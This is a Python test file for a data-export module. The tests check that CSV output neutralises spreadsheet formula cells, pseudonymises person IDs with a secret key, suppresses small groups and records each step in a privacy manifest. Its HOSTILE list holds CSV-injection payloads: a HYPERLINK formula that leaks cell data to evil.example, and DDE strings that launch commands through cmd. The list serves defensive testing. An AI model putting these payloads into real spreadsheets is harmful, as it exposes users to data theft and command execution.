"""The one writer: secret-keyed pseudonyms, small groups suppressed, formula cells neutralised, all recorded."""

from __future__ import annotations

import hashlib
import hmac
import json
import re
import stat

import pandas as pd
import pytest

from inspect_audit._core import export
from inspect_audit._core import privacy

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
           "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


def _cells(path) -> list[list[str]]:
    import csv

    with open(path, newline="", encoding="utf-8") as handle:
        return list(csv.reader(handle))


def test_formula_cells_are_neutralised_and_numbers_kept(tmp_path):
    table = pd.DataFrame({"name": HOSTILE + ["-0.5", "Alpha Primary"], "value": [-0.5] * 8,
                          "=HYPERLINK(\"x\")": ["+44 20 7946 0000"] * 8})
    path = export.write_csv(table, tmp_path / "t.csv", min_n=None)
    header, *rows = _cells(path)
    assert header[2] == "'=HYPERLINK(\"x\")"
    for row, original in zip(rows, table["name"]):
        if original in HOSTILE:
            assert row[0] == "'" + original.replace("\r", "\n")  # text, never evaluated; CR cannot start a row
        else:
            assert row[0] == original  # "-0.5" and plain names untouched
        assert row[1] == "-0.5" and row[2] == "'+44 20 7946 0000"
    entry = json.loads((tmp_path / "privacy.json").read_text())["files"]["t.csv"]
    assert entry["formula_cells_neutralised"] == 6 + 8 + 1


def test_person_ids_are_pseudonymised_with_the_secret_key_and_recorded(tmp_path, pseudonym_key_file):
    table = pd.DataFrame({"inspector_id": ["INS-001", "INS-002"], "n": [12, 30], "estimate": [0.1, 0.2]})
    export.write_csv(table, tmp_path / "effects.csv")
    back = pd.read_csv(tmp_path / "effects.csv")
    assert not back["inspector_id"].isin(table["inspector_id"]).any()
    assert back["inspector_id"].str.fullmatch(r"Inspector-[0-9A-F]{16}").all()
    assert back["inspector_id"].tolist() == privacy.pseudonymise(table["inspector_id"]).tolist()
    key = pseudonym_key_file.read_text().strip()
    manifest = (tmp_path / "privacy.json").read_text()
    entry = json.loads(manifest)["files"]["effects.csv"]
    assert entry["pseudonymised"] == ["inspector_id"] and entry["key_id"] == privacy.key_id(key)
    assert key not in manifest and key not in (tmp_path / "effects.csv").read_text()
    # turning it off is explicit and stated
    export.write_csv(table, tmp_path / "own.csv", pseudonymise=False)
    assert pd.read_csv(tmp_path / "own.csv")["inspector_id"].tolist() == ["INS-001", "INS-002"]
    own = json.loads((tmp_path / "privacy.json").read_text())["files"]["own.csv"]
    assert own["pseudonymised"] is False and "as in the data" in own["identities"]
    assert "effects.csv" in json.loads((tmp_path / "privacy.json").read_text())["files"]  # entries accumulate


def test_suppressed_person_rows_are_dropped_other_small_groups_blanked(tmp_path):
    table = pd.DataFrame({"dimension": ["overall"] + ["lead_inspector"] * 4 + ["stage"] * 3,
                          "group": ["all", "INS-001", "INS-002", "INS-003", "INS-004", "all", "formal", "review"],
                          "statistic": "raw_rate", "n": [80, 40, 25, 9, 6, 80, 75, 5],
                          "k": [20, 10, 6, 2, 2, 20, 19, 1], "estimate": [0.25, 0.25, 0.24, 0.22, 0.33, 0.25, 0.25, 0.2]})
    out, record = export.protect(table)
    people = out[out["dimension"] == "lead_inspector"]
    assert len(people) == 2 and not people["suppressed"].any()  # the 9 and the 6 are gone, not blanked
    assert not people["group"].str.startswith("INS-").any()
    stage = out[out["dimension"] == "stage"].set_index("group")
    assert stage.loc["review", "suppressed"] and pd.isna(stage.loc["review", "estimate"])
    assert record["suppression"] == {"min_n": 10, "count_column": "n", "rows_suppressed": 4,
                                     "person_rows_dropped": 2}
    assert record["pseudonymised"] == ["group (lead_inspector rows)"]


def test_errors_table_pseudonymises_values_of_person_columns():
    errors = pd.DataFrame({"file": "inspections.csv", "table": "inspections", "row": [2, 3],
                           "column": ["lead_inspector_id", "start_date"], "value": ["Jane Doe", "2021-02-30"],
                           "rule": "x"})
    out, record = export.protect(errors)
    assert out["value"].iloc[0].startswith("Inspector-") and out["value"].iloc[1] == "2021-02-30"
    assert record["suppression"] is None


def test_csv_bytes_for_downloads_are_protected():
    data, record = export.csv_bytes(pd.DataFrame({"value": ["=1+1"], "rater_id": ["R1"]}), min_n=None)
    text = data.decode("utf-8")
    assert "'=1+1" in text and "R1" not in text and record["formula_cells_neutralised"] == 1
    assert "pseudonymised" in export.describe(record)


def test_key_is_generated_once_private_and_never_the_public_default(tmp_path, monkeypatch):
    path = tmp_path / "conf" / "inspect_audit" / "pseudonym.key"
    monkeypatch.setenv("INSPECT_AUDIT_KEY_FILE", str(path))
    key = privacy.pseudonym_key()
    assert path.is_file() and stat.S_IMODE(path.stat().st_mode) == 0o600 and len(key) >= 64
    assert privacy.pseudonym_key() == key  # stable
    one = privacy.pseudonymise(pd.Series(["Ann Smith"])).iloc[0]
    assert re.fullmatch(r"Inspector-[0-9A-F]{16}", one)
    public = hmac.new(b"evidence-pack", b"Ann Smith", hashlib.sha256).hexdigest()[:6].upper()
    assert public not in one
    assert privacy.pseudonymise(pd.Series([one])).iloc[0] == one  # already a pseudonym: unchanged
    # without the variable: XDG_CONFIG_HOME, then ~/.config
    monkeypatch.delenv("INSPECT_AUDIT_KEY_FILE")
    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "xdg"))
    assert privacy.key_path() == tmp_path / "xdg" / "inspect_audit" / "pseudonym.key"
    monkeypatch.delenv("XDG_CONFIG_HOME")
    monkeypatch.setenv("HOME", str(tmp_path / "home"))
    assert privacy.key_path() == tmp_path / "home" / ".config" / "inspect_audit" / "pseudonym.key"
    privacy.pseudonym_key()
    assert stat.S_IMODE((tmp_path / "home" / ".config" / "inspect_audit" / "pseudonym.key").stat().st_mode) == 0o600


def test_tables_are_pseudonymised_consistently_across_columns():
    tables = {"inspectors": pd.DataFrame({"inspector_id": ["A", "B"]}),
              "inspections": pd.DataFrame({"inspection_id": ["i1", "i2"], "lead_inspector_id": ["B", None]})}
    out = privacy.pseudonymise_tables(tables)
    assert out["inspections"]["lead_inspector_id"].iloc[0] == out["inspectors"]["inspector_id"].iloc[1]
    assert pd.isna(out["inspections"]["lead_inspector_id"].iloc[1])
    assert out["inspections"]["inspection_id"].tolist() == ["i1", "i2"]
    assert tables["inspectors"]["inspector_id"].tolist() == ["A", "B"]  # inputs untouched


def test_inspector_tables_are_suppressed_by_their_inspection_counts_without_being_told(tmp_path):
    """ia.write_csv(model.inspector_effects(), ...) from Python: the CLI names n_inspections; the default must too."""
    effects = pd.DataFrame({"inspector_id": ["A", "B", "C"], "n_inspections": [52, 9, 10], "mean": [0.1, 0.7, -0.2]})
    path = export.write_csv(effects, tmp_path / "inspector_effects.csv", key="k")
    written = pd.read_csv(path)
    assert written["n_inspections"].tolist() == [52, 10]
    assert export.recorded(path)["suppression"]["count_column"] == "n_inspections"

